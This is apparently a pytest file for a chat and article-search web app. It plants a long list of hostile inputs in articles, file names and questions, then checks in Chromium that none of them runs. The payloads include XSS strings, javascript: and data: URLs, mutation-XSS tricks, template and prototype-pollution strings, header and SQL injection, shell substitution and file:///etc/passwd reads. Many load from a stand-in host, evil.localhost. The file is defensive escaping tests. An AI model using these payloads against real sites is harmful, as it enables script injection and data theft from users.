"""What hostile articles, file names and questions do to the page in a real browser: nothing.

Holds: every payload stands in each place of an article, and in a question; the browser's own protection
(Content-Security-Policy) is switched off for it, so that escaping has to hold alone, and tested by itself.
"""

import json
import os
import random
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import pytest
from browser import PATIENCE, Browsed, chat, chromium, sync_api
from markdown_it import MarkdownIt

from qa.render import REORDERING

# What a payload wants, written RUN and EVIL in it: a dialog and a global of its own, and a host of its own.
# Chromium takes every name under "localhost" for this machine, without asking a name server.
RUN, EVIL = "alert(window.__pwned=1)", "http://evil.localhost"

PAYLOADS = (
    # label, payload
    ("script", "<script>RUN</script>"),
    ("script in capitals", "<SCRIPT>RUN</SCRIPT>"),
    ("script in mixed case", "<ScRiPt>RUN</sCrIpT>"),
    ("script with a slash", "<script/x>RUN</script>"),
    ("script with spaces", "<script\t>RUN</script\t>"),
    ("script nested in script", "<scr<script>ipt>RUN</scr</script>ipt>"),
    ("script from afar", "<script src=EVIL/a.js></script>"),
    ("script from the same scheme", "<script src=//evil.localhost/b.js></script>"),
    ("module script", "<script type=module>import 'EVIL/m.js';RUN</script>"),
    ("script not ended", "<script>RUN//"),
    ("script after closing tags", "</p></blockquote></div></article><script>RUN</script>"),
    ("script after a closing title", "</title></style></textarea><script>RUN</script>"),
    ("script after a closing script", "</script><script>RUN</script>"),
    ("script in entities", "&lt;script&gt;RUN&lt;/script&gt;"),
    ("script in numeric entities", "&#60;script&#62;RUN&#60;/script&#62;"),
    ("script in entities twice", "&amp;lt;img src=x onerror=RUN&amp;gt;"),
    ("script with full-width brackets", "＜script＞RUN＜/script＞"),
    ("script in UTF-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-"),
    ("script in percent escapes", "%3Cscript%3ERUN%3C/script%3E"),
    ("script in escapes of JavaScript", r"\u003cscript\u003eRUN\u003c/script\u003e \x3cimg src=x onerror=RUN\x3e"),
    ("image that fails", "<img src=x onerror=RUN>"),
    ("image that fails, quoted", '<img src="x" onerror="RUN">'),
    ("image in capitals", "<IMG SRC=X ONERROR=RUN>"),
    ("image with slashes", "<img/src=x/onerror=RUN>"),
    ("image with a line feed", "<img\nsrc=x\nonerror=RUN>"),
    ("image not ended", "<img src=x onerror=RUN "),
    ("image with backticks", "<img src=`x` onerror=`RUN`>"),
    ("image loaded", "<img src=EVIL/i.png>"),
    ("image set", "<img srcset='EVIL/s.png 1x, EVIL/t.png 2x'>"),
    ("image called image", "<image src=EVIL/j.png onerror=RUN>"),
    ("picture", "<picture><source srcset=EVIL/p.png><img src=x onerror=RUN></picture>"),
    ("image in data", "<img src='data:image/svg+xml,<svg onload=RUN xmlns=http://www.w3.org/2000/svg/>' onload=RUN>"),
    ("body with a handler", "<body onload=RUN>"),
    ("details that open", "<details open ontoggle=RUN><summary>x</summary></details>"),
    ("input with focus", "<input autofocus onfocus=RUN>"),
    ("select with focus", "<select autofocus onfocus=RUN></select>"),
    ("text area with focus", "<textarea autofocus onfocus=RUN></textarea>"),
    ("button with focus", "<button autofocus onfocus=RUN>x</button>"),
    ("content that can be edited", "<div contenteditable autofocus onfocus=RUN tabindex=0>x</div>"),
    ("marquee", "<marquee onstart=RUN>x</marquee>"),
    ("video", "<video src=EVIL/v.mp4 onerror=RUN autoplay></video>"),
    ("video's source", "<video><source src=x onerror=RUN></video>"),
    ("video's poster", "<video poster=EVIL/poster.png></video>"),
    ("audio", "<audio src=EVIL/a.mp3 onerror=RUN autoplay></audio>"),
    ("subtitles", "<video src=x><track src=EVIL/t.vtt default></video>"),
    ("animation that starts", "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>x</b>"),
    ("transition that ends", "<b style='transition:color 1s' ontransitionend=RUN>x</b>"),
    ("pointer over it", "<b onpointerover=RUN onmouseover=RUN onclick=RUN style='position:fixed;inset:0'>x</b>"),
    ("wheel over it", "<b onwheel=RUN onscroll=RUN>x</b>"),
    ("popover", "<button popovertarget=pp>x</button><b id=pp popover ontoggle=RUN>x</b>"),
    ("custom element", "<x-y onfocus=RUN tabindex=0 autofocus>x</x-y>"),
    ("svg with a handler", "<svg onload=RUN>"),
    ("svg with a slash", "<svg/onload=RUN>"),
    ("svg with a script", "<svg><script>RUN</script></svg>"),
    ("svg with an entity in a script", "<svg><script>&#97;lert(window.__pwned=1)</script></svg>"),
    ("svg that animates a link", "<svg><a><animate attributeName=href values=javascript:RUN /><text>x</text></a></svg>"),
    ("svg that begins", "<svg><animate onbegin=RUN attributeName=x dur=1s>"),
    ("svg with a foreign image", "<svg><image href=EVIL/svg.png></svg>"),
    ("svg that uses another", "<svg><use href='EVIL/u.svg#x'></use></svg>"),
    ("svg with HTML in it", "<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>"),
    ("svg and a style that parts it", "<svg><style><img src=x onerror=RUN></style></svg>"),
    ("math with a link", "<math><a xlink:href=javascript:RUN>x</a></math>"),
    ("math that mutates", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>"),
    ("math that parts a form", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>"),
    ("noscript", "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>"),
    ("template", "<template><img src=x onerror=RUN></template>"),
    ("template with a shadow", "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>"),
    ("frame", "<iframe src=EVIL/f.html></iframe>"),
    ("frame with a script", "<iframe src=javascript:RUN></iframe>"),
    ("frame of data", "<iframe src='data:text/html,<script>parent.RUN</script>'></iframe>"),
    ("frame with its own page", "<iframe srcdoc='<script>parent.alert(parent.__pwned=1)</script>'></iframe>"),
    ("object", "<object data=EVIL/o.swf></object>"),
    ("object of data", "<object data='data:text/html,<script>alert(1)</script>'></object>"),
    ("embed", "<embed src=EVIL/e.swf>"),
    ("applet", "<applet code=EVIL/a.class></applet>"),
    ("base", "<base href=EVIL/base/>"),
    ("meta refresh", "<meta http-equiv=refresh content='0;url=EVIL/refresh'>"),
    ("meta refresh to a script", "<meta http-equiv=refresh content='0;url=javascript:RUN'>"),
    ("meta policy", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"),
    ("meta referrer", "<meta name=referrer content=unsafe-url>"),
    ("style sheet", "<link rel=stylesheet href=EVIL/l.css>"),
    ("prefetch of a name", "<link rel=dns-prefetch href=//dns.evil.localhost>"),
    ("connection beforehand", "<link rel=preconnect href=http://connect.evil.localhost>"),
    ("prefetch", "<link rel=prefetch href=EVIL/prefetch><link rel=prerender href=EVIL/prerender>"),
    ("preload", "<link rel=preload as=image href=EVIL/preload.png><link rel=modulepreload href=EVIL/p.js>"),
    ("manifest and icon", "<link rel=manifest href=EVIL/m.json><link rel=icon href=EVIL/icon.png>"),
    ("style that imports", "<style>@import 'EVIL/i.css';</style>"),
    ("style with an image", "<style>*{background:url(EVIL/bg.png)!important}</style>"),
    ("style with a font", "<style>@font-face{font-family:x;src:url(EVIL/x.woff)}*{font-family:x!important}</style>"),
    ("style attribute", "<b style='background:url(EVIL/attribute.png)'>x</b>"),
    ("style that hides the page", "<style>body{display:none!important}</style>"),
    ("table's background", "<table background=EVIL/table.png><td background=EVIL/td.png>x</table>"),
    ("form", "<form action=EVIL/form><input name=q><button>x</button></form>"),
    ("form with a script", "<form action=javascript:RUN><input type=submit></form>"),
    ("button with an action", "<form><button formaction=javascript:RUN>x</button></form>"),
    ("speculation rules", '<script type=speculationrules>{"prefetch":[{"urls":["EVIL/speculated"]}]}</script>'),
    ("import map", '<script type=importmap>{"imports":{"./chats.js":"EVIL/chats.js"}}</script>'),
    ("link to a script", "<a href=javascript:RUN>x</a>"),
    ("link to a script, mixed case", "<a href=jAvAsCrIpT:RUN>x</a>"),
    ("link to a script with an entity", "<a href='java&#115;cript:RUN'>x</a>"),
    ("link to a script with a tab", "<a href='java\tscript:RUN'>x</a>"),
    ("link to a script with an entity of a line feed", "<a href='java&NewLine;script&colon;RUN'>x</a>"),
    ("link to a script after a control", "<a href='\x01javascript:RUN'>x</a>"),
    ("link to data", "<a href='data:text/html,<script>RUN</script>'>x</a>"),
    ("link to data in base64", "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>"),
    ("link to VBScript", "<a href=vbscript:msgbox(1)>x</a>"),
    ("link to a file", "<a href=file:///etc/passwd>x</a>"),
    ("link to a blob", "<a href=blob:EVIL/1>x</a>"),
    ("link to the source", "<a href=view-source:EVIL>x</a>"),
    ("link that pings", "<a href=http://127.0.0.1/ ping=EVIL/ping>x</a>"),
    ("area", "<map name=m><area shape=default href=javascript:RUN></map><img usemap=#m>"),
    ("address: script", "javascript:RUN"),
    ("address: script, mixed case", "JaVaScRiPt:RUN"),
    ("address: script after a space", " javascript:RUN"),
    ("address: script after a control", "\x01javascript:RUN"),
    ("address: script with a tab", "java\tscript:RUN"),
    ("address: script with a line feed", "java\nscript:RUN"),
    ("address: script that looks like a page", "javascript://evil.localhost/%0aRUN"),
    ("address: data", "data:text/html,<script>RUN</script>"),
    ("address: VBScript", "VBScript:msgbox(1)"),
    ("address: file", "FILE:///etc/passwd"),
    ("address: no scheme", "//evil.localhost/x"),
    ("address: backslashes", "\\\\evil.localhost\\x"),
    ("address: out of its attribute", 'EVIL/"onmouseover="RUN"x="'),
    ("address: out of its attribute with an apostrophe", "EVIL/'onmouseover='RUN"),
    ("address: out of its tag", 'EVIL/"><img/src=x/onerror=RUN>'),
    ("address: Markdown in it", "EVIL/)[x](javascript:RUN)![y](EVIL/y.png)"),
    ("address: out of Markdown's brackets by a control", "EVIL/\x02[x](javascript:RUN)"),
    ("address: out of Markdown's brackets by DEL", "EVIL/\x7f![x](data:text/html,RUN)"),
    ("address: a fragment of its own", "EVIL/#:~:text=safe&text=,-x"),
    ("address: another's name before it", "http://127.0.0.1@evil.localhost/"),
    ("address: reversed", "http://evil.localhost/\u202etsohlacol.doog"),
    ("Markdown image", "![x](EVIL/y.png)"),
    ("Markdown image by reference", "![x][y] [y]: EVIL/z.png"),
    ("Markdown link to a script", "[x](javascript:RUN)"),
    ("Markdown link to a script in brackets", "[x](<javascript:RUN>)"),
    ("Markdown link with entities", "[x](javascript&colon;RUN)"),
    ("Markdown link to data", "[x](data:text/html,RUN)"),
    ("Markdown address", "<javascript:RUN>"),
    ("Markdown by reference", "[x]\n\n[x]: javascript:RUN"),
    ("Markdown with escapes of its own", r"\[x\](javascript:RUN) \\[x](javascript:RUN)"),
    ("Markdown code and heading", "`x`\n# y\n```\n<img src=x onerror=RUN>\n```"),
    ("Markdown emphasis across an answer", "**x** __y__ ~~z~~ *[a](javascript:RUN)*"),
    ("Markdown table", "| a | b |\n|---|---|\n| <img src=x onerror=RUN> | [x](javascript:RUN) |"),
    ("HTML comment", "<!-- x --><img src=x onerror=RUN>"),
    ("HTML comment not ended", "<!-- "),
    ("conditional comment", "<!--[if gte IE 4]><script>RUN</script><![endif]-->"),
    ("comment that ends early", "<!--><img src=x onerror=RUN>-->"),
    ("CDATA", "<![CDATA[<img src=x onerror=RUN>]]>"),
    ("processing instruction", "<?xml version='1.0'?><?php echo 1 ?><img src=x onerror=RUN>"),
    ("entity bomb", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"),
    ("template of JavaScript", "${RUN}"),
    ("template of JavaScript that calls", "${constructor.constructor('RUN')()} `${RUN}`"),
    ("Handlebars", "{{RUN}} {{value}} {{this.constructor.constructor 'RUN'}}"),
    ("Handlebars, not escaped", "{{{value}}} {{{<img src=x onerror=RUN>}}} {{#with this}}{{lookup . 'x'}}{{/with}}"),
    ("Angular", "{{constructor.constructor('RUN')()}} {{$on.constructor('RUN')()}}"),
    ("Svelte", "{@html '<img src=x onerror=RUN>'} {RUN} {#if 1}{RUN}{/if}"),
    ("Jinja", "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {{ 7*7 }}"),
    ("format strings", "{0} {self.__class__} %s %n {html} {thumb}"),
    ("out of an attribute", '" onmouseover="RUN" autofocus onfocus="RUN" x="'),
    ("out of an attribute with apostrophes", "' onmouseover='RUN' autofocus onfocus='RUN' x='"),
    ("out of an attribute with backticks", "` onmouseover=`RUN` autofocus onfocus=`RUN` x=`"),
    ("out of an attribute and a tag", '"><img src=x onerror=RUN><b x="'),
    ("out of an attribute in entities", "&quot; onmouseover=&quot;RUN&quot; x=&#34;"),
    ("out of an attribute with an equals sign", "x=y onfocus=RUN autofocus tabindex=1 id=turns"),
    ("out of a string of JavaScript", "';RUN;//\";RUN;//\\';RUN;//</script>"),
    ("out of JSON", '"}]},"html":"<img src=x onerror=RUN>","x":[{"y":"'),
    ("line separators of JavaScript", "\u2028RUN\u2029RUN\u0085RUN"),
    ("null in a tag", "<scr\0ipt>RUN</scr\0ipt><img src=x one\0rror=RUN>"),
    ("null before a tag", "\0<img src=x onerror=RUN>"),
    ("controls in a tag", "<img\x0bsrc=x\x0conerror=RUN>\x1b[31m\x07\x08"),
    ("half a pair", "\ud800<img src=x onerror=RUN>\udc00"),
    ("half a pair before a quote", '\udbff" onfocus="RUN" autofocus x="'),
    ("noncharacters", "\ufffe\uffff<img src=x onerror=RUN>\U0010ffff"),
    ("right to left", "\u202egnp.exe\u202c \u202dx\u202c \u2066y\u2069"),
    ("right to left not ended", "\u202e\u2067<script>RUN</script>"),
    ("isolates around a tag", "\u2068<img src=x onerror=RUN>\u2069\u200f\u061c"),
    ("joiners in a tag", "<scr\u200dipt>RUN</scr\u200bipt><img src=x on\u2060error=RUN>"),
    ("tags block and variation selectors", "\U000e0041\U000e0042 x\ufe0f\U000e0100 \u00adsoft"),
    ("marks heaped on a letter", "Z" + "\u0300\u0316\u0489" * 30),
    ("a very long word", "W" * 400),
    ("a very long word in a tag", "<" + "b" * 300 + " onload=RUN>"),
    ("many tags", "<b>" * 90),
    ("many brackets", "[" * 90 + "](" * 90),
    ("id of the page", "<b id=page>x</b><b id=turns>y</b><b id=ask>z</b><textarea id=ask></textarea>"),
    ("name of the page's object", "<a id=citewire></a><a id=citewire name=start href=javascript:RUN></a>"),
    ("name of the page's wire", "<form id=citewireWire><input name=props><input name=watch></form>"),
    ("names of the document's fields", "<img name=body><img name=getElementById><img name=activeElement>"),
    ("names of a form's fields", "<form id=correct><input name=reset><input id=right></form>"),
    ("data of the page's own", '<button data-question="RUN" data-send="">x</button><button data-article="x" data-link="javascript:RUN">y</button>'),
    ("answer of the page's own", '<p class="answer">Certain</p><button class="sure certain">Certain</button>'),
    ("pollution of prototypes", '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
    ("name of a prototype", "__proto__"),
    ("path of a prototype", "__proto__[polluted]=1&constructor.prototype.polluted=1"),
    ("text fragment", "#:~:text=a,-b,c&text=d-,e%2Cf"),
    ("line feeds of a header", "x\r\nSet-Cookie: a=b\r\n\r\n<img src=x onerror=RUN>"),
    ("line feeds of an event stream", 'x\n\ndata: {"msg":"process_completed"}\n\nevent: x'),
    ("path upwards", "../../../../etc/passwd?x=<img src=x onerror=RUN>"),
    ("query of SQL", "' OR 1=1; DROP TABLE articles; -- \" NEAR(x) * : ^"),
    ("words of a shell", "$(touch /tmp/pwned) `id` ; | & > < ~ !"),
    ("formula of a table", '=HYPERLINK("EVIL","x") +cmd|calc -2 @SUM(1)'),
)  # fmt: skip

# Every second one, 101, in three minutes; all with CITEWIRE_EVERY_PAYLOAD=1.
TRIED = PAYLOADS if os.environ.get("CITEWIRE_EVERY_PAYLOAD") else PAYLOADS[::2]

LOADED = "window.citewire && document.querySelector('#ask textarea')"
BUILT = 300_000  # milliseconds for the articles to be indexed
CHAT = 10  # questions of a conversation; the history then has a title of every tenth payload
# What the page itself makes where text of others is shown; anything else was made by a payload.
TAGS = """article div section h2 h3 p span b em q cite mark blockquote ol ul li small details summary button a svg
path dialog form label input fieldset legend""".split()
ATTRIBUTES = (
    r"^(class|id|dir|type|role|title|tabindex|hidden|open|href|target|rel|viewBox|d|for|autocomplete|maxlength"
    r"|placeholder|value|method|min|max|aria-[a-z]+|data-(article|start|end|quote|link|question|send|vote|copy))$"
)
FOUND = """([where, tags, attributes]) => {
  const found = {made: [], links: [], reordered: []}, named = new RegExp(attributes);
  for (const root of document.querySelectorAll(where)) {
    for (const one of [root, ...root.querySelectorAll('*')]) {
      if (!tags.includes(one.localName)) found.made.push(one.outerHTML.slice(0, 99));
      for (const {name} of one.attributes)
        if (!named.test(name)) found.made.push(`${name} of ${one.outerHTML.slice(0, 99)}`);
    }
    for (const one of [root, ...root.querySelectorAll('*')])
      for (const node of one.childNodes)
        if (node.nodeType === 3 && /[\u202a-\u202e\u2066-\u2069]/.test(node.data)) found.reordered.push(node.data);
  }
  for (const one of document.querySelectorAll('a, area, form, button, input')) // of the whole page
    for (const address of [one.href, one.getAttribute('action'), one.getAttribute('formaction')])
      if (address && !/^https?:$/.test(new URL(address, location).protocol)) found.links.push(one.outerHTML);
  return found;
}"""
STATE = """() => ({
  pwned: window.__pwned, polluted: ({}).polluted, at: location.href, page: document.querySelectorAll('#page').length,
  begin: typeof window.citewire.begin, outside: [...document.querySelectorAll(
    'script, iframe, frame, object, embed, base, meta, style, link, img, video, audio, math, template')]
    .filter(one => !one.closest('#page')).length,
})"""


class Article(NamedTuple):
    """A payload with the invented names that its articles are found by."""

    number: int
    label: str
    payload: str
    place: str
    keeper: str

    @property
    def question(self) -> str:
        return f"Who keeps the {self.place} lighthouse? {self.payload}"


def articles() -> list[Article]:
    """Give each payload a lighthouse and its keeper, the same ones each time."""
    chance = random.Random(5)
    ends = ("nock", "mere", "wick", "stow", "garth", "holm", "ness", "ford")
    names = sorted({_word(chance).title() + end for end in ends for _ in range(99)})
    chance.shuffle(names)
    return [
        Article(number, label, payload.replace("RUN", RUN).replace("EVIL", EVIL), place, f"Oona {keeper}")
        for number, ((label, payload), place, keeper) in enumerate(
            zip(TRIED, names, names[len(TRIED) :], strict=False)
        )
    ]


def write(folder: Path) -> list[Article]:
    """Write two articles for each payload: a row with it in every column, and a file with it for a name."""
    chance = random.Random(6)
    folder.mkdir()
    rows = []
    for article in (all_of := articles()):
        number, label, payload, place, keeper = article
        address = payload if label.startswith("address") else f"{EVIL}/{'/'.join(payload.split())}"
        around = [f"{_words(chance, 9).capitalize()}." for _ in range(2)]
        text = f"{around[0]}\n\nThe {place} lighthouse is kept by {keeper}, who wrote {payload} on its door. {around[1]}"
        row = {"id": f"{number} {payload}", "title": payload, "text": text, "source": payload}
        rows.append(json.dumps({**row, "author": payload, "url": address, "__proto__": {"polluted": 1}}))
        name = file_name(number, payload).encode("utf-8", "surrogatepass")
        text = (
            f"{_words(chance, 12)}: The {place} lighthouse is kept by {keeper}, says {payload} on the quay."
        )
        path = folder / os.fsdecode(name[:250] + b".txt")
        path.write_text(text.replace("\0", "\1"), "utf-8", "surrogatepass")
    (folder / "rows.jsonl").write_text("\n".join(rows), "utf-8")
    return all_of


def file_name(number: int, payload: str) -> str:
    """Give a name with a payload in it, without what no file's name can hold."""
    return f"{number} {payload}".replace("/", "\u2215").replace("\0", "")


def _word(chance: random.Random) -> str:
    return "".join(chance.choice("bdfgklmnprstv") + chance.choice("aeiou") for _ in range(2))


def _words(chance: random.Random, count: int) -> str:
    return " ".join(_word(chance) + _word(chance) for _ in range(count))


def hosts_in(log: Path) -> set[str]:
    """Give every host of a payload that Chromium looked up, connected to or asked, by its own log."""
    events = json.loads(log.read_text())["events"]
    return set(re.findall(r"(?:[a-z]+\.)?evil\.localhost", " ".join(map(str, map(_contact, events)))))


def _contact(event: dict[str, Any]) -> list[str]:
    given: dict[str, Any] = event.get("params") or {}
    addresses = [str(given[key]) for key in ("url", "host", "group_id") if key in given]
    return [urlsplit(one if "//" in one else f"//{one}").netloc for one in addresses]


def as_shown(text: str) -> str:
    """Give a text as the page shows it, without its spaces."""
    text = re.sub("[\0\ud800-\udfff]", "\ufffd", text).translate(REORDERING)
    return "".join(text.split())


def problems(page: "sync_api.Page", where: str) -> dict[str, list[str]]:
    """Give what a payload made under ``where``, and links to anything but http(s) in the whole page."""
    found = page.evaluate(FOUND, [where, TAGS, ATTRIBUTES])
    return {kind: list_ for kind, list_ in found.items() if list_}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[Article]]]:
    home = tmp_path_factory.mktemp("hostile")
    written = write(home / "articles")
    with chat(home, "--articles", str(home / "articles"), "--index", str(home / "index")) as address:
        yield address, written


def ask(page: "sync_api.Page", question: str) -> "sync_api.Locator":
    """Ask, and wait for whatever comes."""
    turns = page.locator(".turn:not(.only-notice)").count()
    page.fill("#ask textarea", question)
    page.press("#ask textarea", "Enter")
    page.wait_for_function(
        "turns => [...document.querySelectorAll('.turn')].at(-1)?.querySelector('.reply > :not(.wait)')"
        " && document.querySelectorAll('.turn').length === turns",
        arg=turns + 1,
        timeout=PATIENCE,
    )
    return page.locator(".turn").last


def read(page: "sync_api.Page", button: "sync_api.Locator") -> str:
    """Open an article in the reading pane, give what is in the pane, and close it."""
    button.click()
    page.locator("#pane-text mark").wait_for()
    shown = page.locator("#pane").inner_text()
    page.keyboard.press("Escape")
    page.wait_for_function("!document.querySelector('#pane').open")
    page.evaluate("new Promise(requestAnimationFrame)")  # the pane gives the focus back in the next frame
    return shown


def markdown_problems(text: str) -> list[str]:
    """Give what CommonMark would make of an export besides text and links to http(s)."""
    bad = []
    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # others do not filter links
    for block in parser.parse(text):
        for token in (block, *(block.children or ())):
            if token.type in ("html_block", "html_inline", "image", "code_block", "fence"):
                bad.append(f"{token.type}: {token.content[:99]}")
            if token.type == "link_open" and not re.match(r"https?://", str(token.attrs["href"])):
                bad.append(f"link: {token.attrs['href']}")
    return bad


def ask_all(page: "sync_api.Page", written: list[Article]) -> tuple[list[str], list[str], int]:
    """Ask the question of each payload, and read the articles it shows.

    :return: labels of payloads that were not shown quoted, and not as a file's name; articles read in the pane
    """
    before = page.evaluate(STATE)
    unquoted, unnamed, panes = [], [], 0
    for asked, article in enumerate(written, start=1):
        turn = ask(page, article.question)
        assert not problems(page, ".turn:last-child"), article
        shown = as_shown(turn.evaluate("turn => turn.querySelector('.reply').textContent"))
        if as_shown(f"who wrote {article.payload} on") not in shown:
            unquoted.append(article.label)
        if as_shown(file_name(article.number, article.payload))[:30] not in shown:
            unnamed.append(article.label)
        for button in turn.locator(".open:visible").all()[:1]:
            panes += as_shown(article.payload) in as_shown(read(page, button))
        assert page.evaluate(STATE) == before, article
        if asked % CHAT == 0:
            page.click("#new")
    return unquoted, unnamed, panes


def exported(page: "sync_api.Page") -> Iterator[str]:
    """Open each earlier conversation, and export it."""
    page.click("#show-history")
    count = page.locator("#chats .chat").count()
    for place in range(count):
        assert not problems(page, "#history")
        page.locator("#chats .chat").nth(place).click()
        page.locator(".turn").first.wait_for()
        assert not problems(page, "#turns")
        with page.expect_download() as download:
            page.click("#export")
        yield Path(download.value.path()).read_text("utf-8")
        page.click("#show-history")
    page.keyboard.press("Escape")


def test_nothing_hostile_does_anything(hostile: tuple[str, list[Article]], tmp_path: Path) -> None:
    address, written = hostile
    log = tmp_path / "net.json"
    with chromium(f"--log-net-log={log}") as browser:
        # Without the page's policy, so that only escaping keeps a payload from running.
        context = browser.new_context(bypass_csp=True, reduced_motion="reduce", accept_downloads=True)
        seen = Browsed(context.new_page(), address)
        page = seen.page
        page.wait_for_function("document.querySelectorAll('#outlets input').length > 80", timeout=BUILT)
        before = page.evaluate(STATE)
        unquoted, unnamed, panes = ask_all(page, written)
        page.reload()
        page.wait_for_function(LOADED)
        exports = list(exported(page))
        page.click("#show-filters")
        for box in page.locator("#outlets input").all()[:30]:
            box.check()
        page.keyboard.press("Escape")
        assert page.locator("#chosen").is_visible()
        assert not problems(page, "#filters, #chosen")
        assert page.evaluate(STATE) == before
    links = re.findall(r"<(https?:[^>]*)>", "".join(exports))
    print(f"{len(written)} payloads: {len(seen.dialogs)} dialogs, foreign hosts: {seen.hosts - {'127.0.0.1'} or 'none'};"
          f" {len(written) - len(unquoted)} quoted, {len(written) - len(unnamed)} file names, {panes} articles read,"
          f" {len(exports)} exports with {len(links)} links")  # fmt: skip
    assert (seen.dialogs, seen.opened, seen.errors) == ([], [], [])
    assert (seen.hosts, hosts_in(log)) == ({"127.0.0.1"}, set())
    assert [bad for text in exports for bad in markdown_problems(text)] == []
    # The browser keeps three million characters of conversations: the oldest of these long ones may be gone.
    assert 0.75 * len(written) / CHAT <= len(exports) <= -(-len(written) // CHAT)
    # Each was really there to do harm; some part a sentence, so that a piece of them is quoted.
    assert len(unquoted) < 0.25 * len(written), unquoted
    assert len(unnamed) < 0.5 * len(written), unnamed
    assert panes > 0.75 * len(written)


# What no policy forbids to a page's own markup, once it is there: to go elsewhere, to look up a name, and to
# connect for a frame before it is refused.
UNBOUND = re.compile("meta refresh|prefetch of a name|connection beforehand|^frame$")


@pytest.mark.parametrize("policy", [True, False], ids=["policy", "no policy"])
def test_the_policy_alone_holds_back_what_would_run_or_load(
    hostile: tuple[str, list[Article]], tmp_path: Path, policy: bool
) -> None:
    """Every payload is put into the page as HTML, as if nothing was escaped; without policy it does its harm."""
    address, written = hostile
    links = 0
    with chromium(f"--log-net-log={tmp_path / 'net.json'}") as browser:
        seen = Browsed(browser.new_context(bypass_csp=not policy).new_page(), address)
        seen.page.wait_for_function(LOADED)
        turns = seen.page.locator("#turns").element_handle()
        for article in written:
            if not UNBOUND.search(article.label):
                turns.evaluate("(turns, html) => turns.innerHTML = html", article.payload)
                links += len(problems(seen.page, "#facts").get("links", []))
        seen.page.wait_for_timeout(1_000)
        pwned = seen.page.evaluate("window.__pwned")
    foreign = hosts_in(tmp_path / "net.json")
    print(
        f"{policy=}: {len(seen.dialogs)} dialogs, {links} links but http(s), connections to {foreign or 'none'}"
    )
    if policy:
        assert (seen.dialogs, foreign, pwned) == ([], set(), None)
    else:
        assert len(seen.dialogs) > 10
        assert foreign == {"evil.localhost"}
        assert links > 5
